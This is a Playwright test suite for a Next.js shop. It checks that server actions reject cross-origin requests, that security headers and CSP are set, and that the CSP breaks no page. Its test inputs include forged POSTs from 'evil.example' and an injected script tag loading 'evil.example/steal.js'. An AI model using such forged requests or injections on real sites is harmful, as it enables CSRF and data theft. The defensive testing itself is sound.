import { expect, test, type APIResponse, type BrowserContext, type Page } from "@playwright/test";
import { demoAccounts } from "@/db/catalog-data";
import { catalogFingerprint, gradientPng } from "./admin/support";
import { ProductPage, signInAs } from "./pages/shop";
import {
  createSale,
  createShoppers,
  orderCount,
  redisClient,
  saleKey,
  sessionCookie,
  sql,
} from "./support/data";
import { actionId } from "./support/actions";
import { baseURL } from "./support/env";

/**
 * The browser-facing defences of the production build: server actions refuse a foreign Origin
 * (CSRF) and change nothing; every page, route, static file and fast-lane answer carries the
 * security headers; and no page breaks under the Content-Security-Policy.
 */

test.describe.configure({ timeout: 120_000 });

const EVIL = "https://evil.example";

/** The shopper's gate state in Redis: their hold (if any) and the sale's counters. */
async function gateOf(saleId: string, userId: string) {
  const r = await redisClient();
  try {
    return {
      holder: await r.hGet(saleKey(saleId, "holder"), userId),
      avail: await r.get(saleKey(saleId, "avail")),
      holds: await r.zCard(saleKey(saleId, "holds")),
    };
  } finally {
    await r.quit();
  }
}

async function merchantCookie() {
  const { rows } = await sql().query(`select id, email, name from users where email = $1`, [
    demoAccounts.merchant.email,
  ]);
  return sessionCookie(rows[0] as { id: string; email: string; name: string }, "merchant");
}

test.describe("server actions refuse foreign origins", () => {
  test("Buy Now as an action (fetch and no-JS form) from another origin: refused, no hold", async ({
    request,
  }) => {
    const [shopper] = await createShoppers(1);
    const { saleId, product } = await createSale({ stock: 3 });
    const cookie = (await sessionCookie(shopper!)).header;
    // Arm the gate (as the first visitor would), so "nothing changed" compares real counters.
    expect((await request.get(`/api/sales/${saleId}`)).status()).toBe(200);
    const before = await gateOf(saleId, shopper!.id);
    expect(before).toMatchObject({ holder: null, avail: "3", holds: 0 });

    const fetchAction = actionId("app/products/[slug]/actions.ts", "buyNowAction");
    const formAction = actionId("app/products/[slug]/actions.ts", "buyNowFormAction");
    const url = `/products/${product.slug}`;
    const viaFetch = (origin: string) =>
      request.post(url, {
        headers: {
          "next-action": fetchAction.id,
          origin,
          cookie,
          accept: "text/x-component",
          "content-type": "text/plain;charset=UTF-8",
        },
        data: JSON.stringify([saleId]),
        maxRedirects: 0,
      });
    const viaForm = (origin: string) =>
      request.post(url, {
        headers: { origin, cookie },
        multipart: { [`$ACTION_ID_${formAction.id}`]: "", saleId, back: url },
        maxRedirects: 0,
      });

    const refused = async (res: APIResponse, label: string) => {
      expect(res.status(), label).toBeGreaterThanOrEqual(400);
      const body = await res.text();
      expect(body, label).not.toContain("secured");
      expect(res.headers()["location"] ?? "", label).not.toContain("/answer");
    };
    for (const origin of [EVIL, "http://evil.example", "null", `http://127.0.0.1:1`]) {
      await refused(await viaFetch(origin), `fetch action, Origin ${origin}`);
      await refused(await viaForm(origin), `form action, Origin ${origin}`);
    }
    expect(await gateOf(saleId, shopper!.id)).toEqual(before);
    expect(await orderCount(saleId)).toBe(0);

    // The same request from the shop's own origin goes through: it was the Origin that was refused.
    const own = await viaFetch(baseURL);
    expect(own.status()).toBe(200);
    expect(await own.text()).toContain('"status":"secured"');
    expect((await gateOf(saleId, shopper!.id)).holder).toBeTruthy();
  });

  test("a merchant's admin action from another origin: refused, the catalog unchanged", async ({
    request,
  }) => {
    const cookie = (await merchantCookie()).header;
    const create = actionId("app/admin/products/actions.ts", "createProduct");
    const before = await catalogFingerprint();
    const post = (origin: string) =>
      request.post("/admin/products/new", {
        headers: { "next-action": create.id, origin, cookie, accept: "text/x-component" },
        multipart: {
          "0": JSON.stringify([{ status: "idle" }, "$K1"]),
          "1_name": "Planted by evil.example",
          "1_slug": "planted",
          "1_description": "Cross-site",
          "1_price": "1.00",
        },
        maxRedirects: 0,
      });
    const res = await post(EVIL);
    expect(res.status()).toBeGreaterThanOrEqual(400);
    expect(await res.text()).not.toContain("fieldErrors");
    expect(await catalogFingerprint()).toEqual(before);
    // From the shop's own origin the action runs (and refuses the form: it has no image).
    const own = await post(baseURL);
    expect(own.status()).toBe(200);
    expect(await own.text()).toContain('"imageId":"Add a product image"');
    expect(await catalogFingerprint()).toEqual(before);
  });
});

// ---- Headers ----

const PAGE_HEADERS = {
  "x-frame-options": "DENY",
  "x-content-type-options": "nosniff",
  "referrer-policy": "strict-origin-when-cross-origin",
};
const API_HEADERS = { ...PAGE_HEADERS };

function expectPageHeaders(res: APIResponse, label: string) {
  const h = res.headers();
  expect(h, label).toMatchObject(PAGE_HEADERS);
  const csp = h["content-security-policy"] ?? "";
  for (const directive of [
    "default-src 'self'",
    "script-src 'self' 'unsafe-inline'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
  ])
    expect(csp, `${label}: ${directive}`).toContain(directive);
  expect(csp, label).not.toContain("unsafe-eval");
  expect(h["permissions-policy"], label).toContain("camera=()");
  expect(h["strict-transport-security"], `${label}: no HSTS over http`).toBeUndefined();
}

test.describe("security headers", () => {
  test("on every page, route handler and static file Next.js serves", async ({ request }) => {
    const [shopper] = await createShoppers(1);
    const { saleId, product } = await createSale({ stock: 2 });
    const {
      rows: [image],
    } = await sql().query(
      `insert into images (content_type, data) values ('image/png', $1) returning id`,
      [gradientPng(8)],
    );
    const chunk = /\/_next\/static\/[^"]+\.js/.exec(await (await request.get("/")).text())?.[0];
    expect(chunk).toBeTruthy();
    const cookie = (await sessionCookie(shopper!)).header;
    const next = { "x-stampede-lane": "next" };
    const urls: [string, Record<string, string>][] = [
      ["/", {}],
      [`/products/${product.slug}`, {}],
      ["/products/no-such-product", {}],
      ["/search?q=runner", {}],
      ["/sign-in", {}],
      ["/sign-up", {}],
      ["/account", { cookie }],
      ["/account", {}],
      [`/checkout/${saleId}`, { cookie }],
      [`/sales/${saleId}/answer?status=sold_out`, { cookie }],
      ["/admin", {}],
      ["/api/health", {}],
      ["/api/sales", {}],
      [`/api/sales/${saleId}`, next],
      [`/api/sales/${saleId}/me`, { ...next, cookie }],
      ["/products/aurora-runner.svg", {}],
      [chunk!, {}],
      ["/no/such/page", {}],
    ];
    for (const [url, headers] of urls) {
      const res = await request.get(url, { headers, maxRedirects: 0 });
      expectPageHeaders(res, `GET ${url} → ${res.status()}`);
    }

    // An uploaded image keeps its own, stricter policy: nothing in it may run.
    const img = await request.get(`/api/images/${image.id}`);
    expect(img.status()).toBe(200);
    expect(img.headers()["content-type"]).toBe("image/png");
    expect(img.headers()["x-content-type-options"]).toBe("nosniff");
    expect(img.headers()["content-security-policy"]).toBe("default-src 'none'; sandbox");
    expect(img.headers()).toMatchObject(PAGE_HEADERS);
  });

  test("on every fast-lane JSON answer, refusals and 304s included", async ({ request }) => {
    const { saleId } = await createSale({ stock: 2 });
    const state = await request.get(`/api/sales/${saleId}`);
    expect(state.headers()["x-stampede-lane"]).toBe("fast");
    const answers = [
      state,
      await request.get(`/api/sales/${saleId}`, {
        headers: { "if-none-match": state.headers()["etag"]! },
      }),
      await request.post(`/api/sales/${saleId}/token`),
      await request.get(`/api/sales/${saleId}/me`),
      await request.post("/api/orders", { headers: { "content-type": "text/plain" }, data: "x" }),
      await request.get("/api/sales/%E0%A4%A"),
    ];
    expect(answers.map((a) => a.status())).toEqual([200, 304, 401, 401, 415, 404]);
    for (const a of answers) {
      expect(a.headers()["x-stampede-lane"]).toBe("fast");
      expect(a.headers()).toMatchObject(API_HEADERS);
      expect(a.headers()["content-security-policy"]).toBe(
        "default-src 'none'; frame-ancestors 'none'",
      );
      expect(a.headers()["strict-transport-security"]).toBeUndefined();
    }
  });

  test("the metrics scrape, answered by server.ts itself, carries the API set", async ({
    request,
  }) => {
    // It sums both of server.ts's processes, so server.ts answers it rather than Next.js.
    const metrics = await request.get("/api/metrics");
    expect(metrics.status()).toBe(401);
    expect(metrics.headers()).toMatchObject(API_HEADERS);
    expect(metrics.headers()["content-security-policy"]).toBe(
      "default-src 'none'; frame-ancestors 'none'",
    );
  });

  test("HSTS when the load balancer says the request came over https", async ({ request }) => {
    const { saleId } = await createSale({ stock: 1 });
    const https = { "x-forwarded-proto": "https" };
    for (const url of ["/", "/sign-in", "/api/health", `/api/sales/${saleId}`]) {
      const res = await request.get(url, { headers: https });
      expect(res.headers()["strict-transport-security"], url).toBe(
        "max-age=63072000; includeSubDomains",
      );
    }
  });
});

// ---- The CSP breaks nothing ----

/** Records CSP violations (the DOM event and the console's report) in every page of a context. */
async function watchCsp(context: BrowserContext, seen: string[]) {
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      const w = window as unknown as { __csp?: string[] };
      (w.__csp ??= []).push(
        `${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`,
      );
    });
  });
  context.on("console", (m) => {
    if (/Content Security Policy|Refused to (load|execute|apply|connect|frame)/i.test(m.text()))
      seen.push(`${m.page()?.url()}: ${m.text()}`);
  });
  context.on("weberror", (e) => seen.push(`page error: ${e.error().message}`));
}
async function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? []);
}

test.describe("the CSP breaks no page", () => {
  test("the watch is not blind: a script or image from another origin is blocked and seen", async ({
    browser,
  }) => {
    const seen: string[] = [];
    const context = await browser.newContext();
    await watchCsp(context, seen);
    const page = await context.newPage();
    await page.goto("/");
    await page.evaluate(() => {
      // What an injected tag would try: load script and pixels from the attacker's host.
      const s = document.createElement("script");
      s.src = "https://evil.example/steal.js";
      document.body.append(s, Object.assign(new Image(), { src: "https://evil.example/p.gif" }));
    });
    await expect
      .poll(async () => (await violations(page)).join("\n"))
      .toMatch(
        /script-src.*evil\.example[\s\S]*img-src.*evil\.example|img-src.*evil\.example[\s\S]*script-src.*evil\.example/,
      );
    await context.close();
  });

  test("a shopper browses, buys, checks out and sees the order: no violation, JavaScript ran", async ({
    browser,
  }) => {
    const seen: string[] = [];
    const context = await browser.newContext();
    await watchCsp(context, seen);
    const [shopper] = await createShoppers(1);
    const { saleId, product } = await createSale({ stock: 2 });
    const page = await context.newPage();
    for (const url of [
      "/",
      "/search?q=runner",
      "/sign-in",
      "/sign-up",
      "/products/aurora-runner",
    ]) {
      await page.goto(url);
      await expect(page.locator("h1").first()).toBeVisible();
      seen.push(...(await violations(page)).map((v) => `${url}: ${v}`));
    }
    await signInAs(context, shopper!);
    const p = new ProductPage(page);
    await p.open(product.slug);
    // Buy Now only works once React has hydrated, i.e. once the inline scripts have run.
    expect((await p.clickBuyNow()).status).toBe("secured");
    await page.getByRole("link", { name: "Check out now" }).click();
    await page.getByTestId("place-order").click();
    await expect(page.getByRole("heading", { name: "It’s yours. Thank you!" })).toBeVisible();
    seen.push(...(await violations(page)));
    await page.goto("/account");
    await expect(page.getByTestId("orders")).toBeVisible();
    seen.push(...(await violations(page)));
    expect(await orderCount(saleId)).toBe(1);
    expect(seen).toEqual([]);
    await context.close();
  });

  test("a merchant's dashboard: uploads with preview, the live monitor's charts, no violation", async ({
    browser,
  }) => {
    const seen: string[] = [];
    const context = await browser.newContext();
    await watchCsp(context, seen);
    const c = await merchantCookie();
    await context.addCookies([
      { name: c.name, value: c.value, url: baseURL, httpOnly: true, sameSite: "Lax" },
    ]);
    const { saleId } = await createSale({ stock: 5 });
    const page = await context.newPage();
    for (const url of ["/admin", "/admin/products", "/admin/sales", `/admin/sales/${saleId}`]) {
      await page.goto(url);
      await expect(page.locator("h1").first()).toBeVisible();
      seen.push(...(await violations(page)).map((v) => `${url}: ${v}`));
    }
    // The monitor draws its charts on the client (inline styles, SVG).
    await expect(page.locator(".recharts-surface").first()).toBeVisible({ timeout: 15_000 });
    seen.push(...(await violations(page)));
    await page.goto("/admin/products/new");
    await page.getByLabel("Image").setInputFiles({
      name: "tile.png",
      mimeType: "image/png",
      buffer: gradientPng(32),
    });
    await expect(page.locator("form img[src^='/api/images/']")).toBeVisible();
    seen.push(...(await violations(page)));
    expect(seen).toEqual([]);
    await context.close();
  });
});
